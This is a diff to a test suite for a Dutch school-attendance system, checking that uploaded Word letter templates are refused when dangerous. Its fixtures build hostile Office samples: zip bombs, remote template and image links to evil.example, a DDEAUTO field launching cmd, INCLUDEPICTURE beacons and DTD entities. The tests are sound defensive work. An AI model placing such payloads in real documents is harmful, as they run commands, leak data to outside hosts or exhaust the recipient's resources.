@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import PizZip from 'pizzip';
 import { MERGE_FIELD_NAMES } from '../../src/correspondence/letters/fields';
@@ -6,7 +7,7 @@ import { fillTemplate, readTemplate } from '../../src/correspondence/letters/wor
 import { type NewLetter, WriteLetter } from '../../src/correspondence/letters/write-letter';
 import { newId } from '../../src/platform/ids';
 import { asDay } from '../../src/law/day';
-import { configFile } from '../../src/platform/config-file';
+import { configFile, readConfig } from '../../src/platform/config-file';
 import { actor, counsellor, officer } from '../support/actors';
 import { type House, openHouse } from '../support/house';
 
@@ -26,6 +27,40 @@ function word(text: string, more: Record<string, string> = {}): Buffer {
   return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
 }
 
+/** So many megabytes that get some fifty times smaller in a zip, as text of Word may. */
+const packsWell = (megabytes: number) =>
+  Array.from({ length: megabytes }, () => randomBytes(19_000).toString('hex').padEnd(1_000_000)).join('');
+const parts = (count: number) =>
+  Object.fromEntries(Array.from({ length: count }, (_, i) => [`word/media/${i}.png`, 'x']));
+
+/** The file with 1,000 bytes told as the size of this part. */
+function lying(docx: Buffer, part: string): Buffer {
+  const [local, central] = [docx.indexOf(part), docx.lastIndexOf(part)] as const;
+  docx.writeUInt32LE(1_000, local - 30 + 22);
+  docx.writeUInt32LE(1_000, central - 46 + 24);
+  return docx;
+}
+
+/** A Word file with this as its body, and these relations of it. */
+function made(body: string, relations = ''): Buffer {
+  const zip = new PizZip(word('Beste'));
+  const edit = (name: string, from: RegExp, to: (found: string) => string) =>
+    zip.file(name, zip.file(name)!.asText().replace(from, to));
+  edit('word/document.xml', /<w:p>.*<\/w:p>/s, () => body);
+  edit('word/_rels/document.xml.rels', /<\/Relationships>/, (end) => relations + end);
+  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
+}
+const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
+  `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/>`;
+const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
+const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
+const complex = (code: string, result = '1') =>
+  `<w:p>${mark('begin')}${code}${mark('separate')}${run(result)}${mark('end')}</w:p>`;
+const simple = (code: string) => `<w:p><w:fldSimple w:instr="${code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
+const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+const PICTURE = 'INCLUDEPICTURE &quot;http://evil.example/?q=';
+
 const textOf = (docx: Buffer) =>
   new PizZip(docx)
     .file('word/document.xml')!
@@ -44,10 +79,79 @@ describe('Word templates', () => {
     ['a loop that does not end', word('Beste {#leerling_naam}'), /herhaling die niet eindigt/],
     ['a loop', word('{#leerling_naam}{datum}{/leerling_naam}'), /\{leerling_naam\}/],
     ['macros', word('Beste', { 'word/vbaProject.bin': 'x' }), /macro/],
-    ['a zip that unpacks too far', word('Beste', { 'word/media/x.xml': ' '.repeat(25_000_000) }), /20 MB/],
+    ['a zip that unpacks too far', word('Beste', { 'word/media/x.png': packsWell(21) }), /20 MB/],
+    ['a zip with too much text', word('Beste', { 'word/media/x.xml': packsWell(6) }), /5 MB/],
+    ['a zip that repeats itself', word('Beste', { 'word/media/x.png': ' '.repeat(1_000_000) }), /100 keer/],
+    [
+      'a zip that lies about it',
+      lying(word('Beste', { 'word/a.xml': ' '.repeat(30_000_000) }), 'word/a.xml'),
+      /100 keer/,
+    ],
+    ['a zip of too many parts', word('Beste', parts(496)), /meer dan 500 onderdelen/],
     ['a file that is too large', Buffer.alloc(2_000_001), /2 MB/],
   ])('are refused in Dutch where it is %s', (_, file, words) => {
     expect(() => readTemplate(file)).toThrow(words);
+  });
+
+  it.each([
+    ['another template', made('<w:p/>', relation('attachedTemplate', 'https://evil.example/x.dotm')), /ander sjabloon/],
+    ['a picture elsewhere', made('<w:p/>', relation('image', 'https://evil.example/x.png')), /buiten de brief/],
+    ['one under another name', made('<w:p/>', relation('image', 'x', 'TargetMode="&#69;xternal"')), /buiten de brief/],
+    ['a place elsewhere as a part', made('<w:p/>', relation('image', '\\\\evil\\x.png', '')), /buiten de brief/],
+    ['a link without https', made('<w:p/>', relation('hyperlink', 'http://emmen.example')), /alleen met https/],
+    [
+      'a link with a field',
+      made('<w:p/>', relation('hyperlink', 'https://e.example/{leerling_naam}')),
+      /zonder velden/,
+    ],
+    ['the same in disguise', made('<w:p/>', relation('hyperlink', 'https://e.example/%7Bdatum%7D')), /zonder velden/],
+    ['a piece of HTML', made('<w:p/>', relation('aFChunk', 'chunk.xml', '')), /ingevoegd bestand/],
+    ['HTML as a part', word('Beste', { 'word/chunk.html': '<img src="https://evil.example/">' }), /bijlage \(html\)/],
+    [
+      'a picture by its address',
+      made('<w:p><v:imagedata xmlns:v="v" src="http://evil.example/"/></w:p>'),
+      /buiten de brief/,
+    ],
+    ['a program', made(simple('DDEAUTO cmd &quot;/k calc&quot;')), /veldcode van Word .*\(DDEAUTO\)/],
+    ['a picture by a code', made(complex(instruction(`${PICTURE}x&quot;`))), /INCLUDEPICTURE/],
+    ['a code in pieces', made(complex(instruction('INCLUDE') + instruction('PICTURE x'))), /\(INCLUDEPICTURE\)/],
+    ['a code without a result', made(`<w:p>${mark('begin')}${instruction('DDE x')}${mark('end')}</w:p>`), /\(DDE\)/],
+    ['a code without an end', made(`<w:p>${mark('begin')}${instruction('DDE x')}</w:p>`), /zonder einde/],
+    ['a field in a code', made(complex(instruction(PICTURE) + run('{leerling_naam}'))), /veldcode/],
+    ['a field in a good code', made(complex(instruction('PAGE ') + run('{leerling_naam}'))), /tekst in een veldcode/],
+    ['a field in its text', made(complex(instruction('DATE \\@ &quot;{datum}&quot;'))), /veldcode/],
+    ['a code in a code', made(complex(instruction('PAGE') + complex(instruction('PAGE')))), /een veld in een veldcode/],
+    ['a link with more', made(complex(instruction('HYPERLINK &quot;https://e.example/&quot; \\t x'))), /HYPERLINK/],
+    ['the data of a merge', made('<w:p/><w:mailMerge/>'), /samenvoegdocument/],
+    ['names of its own', made(`<x:p xmlns:x="${W}"><x:fldSimple x:instr="DDEAUTO x"/></x:p>`), /DDEAUTO/],
+    ['a DTD', word('Beste', { 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }), /beschadigd/],
+    [
+      'text that Word reads otherwise',
+      word('Beste', { 'word/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
+      /beschadigd/,
+    ],
+  ])('are refused where they hold %s', (_, file, words) => {
+    expect(() => readTemplate(file)).toThrow(words);
+    // nor is a letter made with one from before
+    expect(() => fillTemplate(file, {})).toThrow(words);
+  });
+
+  it('may hold the codes of a page, a date and a constant link, and as much as a letter needs', () => {
+    const codes = ['PAGE', ' NUMPAGES  \\* MERGEFORMAT ', 'DATE \\@ &quot;d MMMM yyyy&quot;', 'TIME', 'page'];
+    for (const code of [...codes, 'HYPERLINK &quot;https://emmen.example/leerplicht&quot;']) {
+      expect(readTemplate(made(complex(instruction(code), '{datum}')))).toEqual(['datum']);
+      expect(readTemplate(made(simple(code)))).toEqual([]);
+    }
+    for (const link of ['https://emmen.example/leerplicht', 'mailto:leerplicht@emmen.example'])
+      expect(readTemplate(made(run('{datum}'), relation('hyperlink', link)))).toEqual(['datum']);
+    expect(readTemplate(word('{datum}', { 'word/media/x.png': packsWell(19) }))).toEqual(['datum']);
+    expect(readTemplate(word('{datum}', parts(495)))).toEqual(['datum']);
+    expect(readTemplate(lying(word('{datum}', { 'word/a.xml': `<a>${' '.repeat(2_000)}</a>` }), 'word/a.xml'))).toEqual(
+      ['datum'],
+    );
+    for (const { bestand } of readConfig<{ voorbeelden: { bestand: string }[] }>('letters', 'voorbeelden.json')
+      .voorbeelden)
+      expect(readTemplate(readFileSync(configFile('letters', bestand))).length).toBeGreaterThan(0);
   });
 
   it('hold fields of the list and nothing that runs', () => {
@@ -217,7 +321,8 @@ describe('letters of a dossier', () => {
     await item('afspraak', 'wpg', 'gehouden', { ...talk, met: 'ouders', verslag: 'Wij wisten van niets.' });
     const write = house.module.get(WriteLetter, { strict: false });
     const template = (await write.choices(boa, id)).find((one) => one.room === 'wpg')!;
-    const found = await write.suggestions(boa, id, template);
+    const { suggestions: found, people } = await write.form(boa, id, template);
+    expect(people).toEqual([]);
     expect(found).toMatchObject({
       ...{ pv_nummer: 'PV-7', verdachte_naam: 'Quirijn Zevenster', verdachte_geboortedatum: '6 mei 2011' },
       ...{ verhoor_plaats: 'Stadhuis', verklaring: 'Ik had er geen zin in.' },
@@ -225,8 +330,8 @@ describe('letters of a dossier', () => {
     expect(found.verhoor_datum).toContain('5 maart 2026');
     expect(found.feiten).toContain('16 uur of meer in vier lesweken: 2 maart 2026 tot en met 3 maart 2026, 16,00 uur');
     expect(found.eerdere_hulp).toContain('Waarschuwing, 5 maart 2026: verzonden.');
-    expect(await write.suggestions(lpa, id, template)).toEqual({});
-    await expect(write.suggestions(officer('x', '0363'), id, template)).rejects.toMatchObject({ status: 404 });
+    await expect(write.form(lpa, id, template)).rejects.toMatchObject({ status: 403 });
+    await expect(write.form(officer('x', '0363'), id, template)).rejects.toMatchObject({ status: 404 });
     const missing = await write
       .make(boa, { dossierId: id, template: template.id, recipient: null, given: {} })
       .catch((error: { fields: { pointer: string }[] }) => error.fields.map((one) => one.pointer));
